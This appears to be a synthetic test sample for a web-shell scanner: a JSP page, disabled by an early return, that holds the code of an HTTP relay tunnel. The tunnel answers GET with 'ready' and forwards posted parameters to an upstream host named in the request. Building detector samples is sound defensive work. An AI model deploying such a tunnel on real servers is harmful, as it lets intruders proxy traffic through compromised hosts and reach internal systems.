<%-- synthetic test sample for breachscan: HTTP relay tunnel - GET answered with a fixed word,
     the parameters re-posted to the server the request names, the reply printed. Inert:
     returns before anything runs. --%>
<%@ page import="java.io.*,java.net.*,java.util.*" %>
<%
    if (true) { out.print("synthetic sample"); return; }
    String method = request.getMethod();
    if (method.equals("GET")) {
        out.print("ready");
    } else {
        StringBuilder form = new StringBuilder();
        for (Enumeration<String> e = request.getParameterNames(); e.hasMoreElements();) {
            String k = e.nextElement();
            form.append(k).append('=').append(URLEncoder.encode(request.getParameter(k), "UTF-8")).append('&');
        }
        URL up = new URL(request.getParameter("upstream") + request.getParameter("path"));
        HttpURLConnection c = (HttpURLConnection) up.openConnection();
        c.setDoOutput(true);
        c.getOutputStream().write(form.toString().getBytes("UTF-8"));
        BufferedReader in = new BufferedReader(new InputStreamReader(c.getInputStream()));
        String line, reply = "";
        while ((line = in.readLine()) != null) reply += line;
        out.print(reply);
    }
%>
